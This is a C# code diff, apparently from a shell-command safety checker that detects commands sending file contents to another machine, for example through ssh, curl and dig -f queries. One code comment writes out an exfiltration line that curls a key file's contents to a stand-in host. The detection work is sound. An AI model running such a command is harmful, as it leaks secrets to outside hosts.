@@ -32,20 +32,21 @@ internal static partial class SentAway
     /// <returns>Why the command is no read; null where no word of it carries a file's content.</returns>
     public static string? Problem(SimpleCommand command, Scope scope)
     {
-        for (var at = 1; at < command.Words.Count && GoesToHost(command); at++)
+        for (var at = GoesToHost(command) ? 1 : command.Words.Count; at < command.Words.Count; at++)
         {
             if (Carried(command.Words[at].Parts, scope) is { } told && !(command.Words[0].Constant is "ssh" && (IsHost(command.Words, at) || Credentials().IsMatch(Text(command.Words[at].Parts))))) return $"what '{told}' holds is sent to another machine";
         }
 
         // dig(1), "-f": each line of the file is asked of the server that is named.
         if (command.Words is [{ Constant: "dig" or "kdig" or "mdig" or "drill" }, ..] && command.Words.Any(word => word.Constant is ['-', 'f', ..]) && command.Words.Any(word => word.Constant is ['@', ..])) return "the lines of a file are asked of another machine";
-        var sends = false;
+        var (sends, asks) = (false, false);
         for (var at = 0; at < command.Words.Count; at++)
         {
             if (!sends)
             {
-                if (at > 0 && command.Words.Take(at).Any(word => word.Constant is { } asker && Askers.Contains(asker[(asker.LastIndexOf('/') + 1)..])) && PutTogether(command.Words[at].Parts) && Carried(command.Words[at].Parts, scope) is { } address) return $"what '{address}' holds is part of an address";
+                if (asks && PutTogether(command.Words[at].Parts) && Carried(command.Words[at].Parts, scope) is { } address) return $"what '{address}' holds is part of an address";
                 sends = command.Words[at].Constant is { } name && IsSender(name);
+                asks |= command.Words[at].Constant is { } asker && IsAsker(asker);
                 // ssh host "curl https://h/?x=$(cat key)": what another shell reads is put together here.
                 if (at > 0 && command.Words[0].Constant is not ("echo" or "printf") && CarriedInText(command.Words[at].Parts, scope, new StringBuilder()) is { } put) return $"what '{put}' holds is sent to another machine";
                 continue;
@@ -208,12 +209,15 @@ internal static partial class SentAway
         var first = true;
         foreach (var command in commands)
         {
-            if (command is not SimpleCommand simple) return "$(…)";
-            if ((first ? Begins(simple, scope) : GoesOn(simple)) is { } printed) return printed;
+            if (Printed(command, first, scope) is { } printed) return printed;
             first = false;
         }
         return null;
     }
+
+    /// <summary>What one command of a pipeline prints of what a file holds, where nothing before it does; null where it prints none.</summary>
+    public static string? Printed(ShellCommand command, bool first, Scope scope) =>
+        command is not SimpleCommand simple ? "$(…)" : first ? Begins(simple, scope) : GoesOn(simple);
 
     static string? Begins(SimpleCommand command, Scope scope)
     {
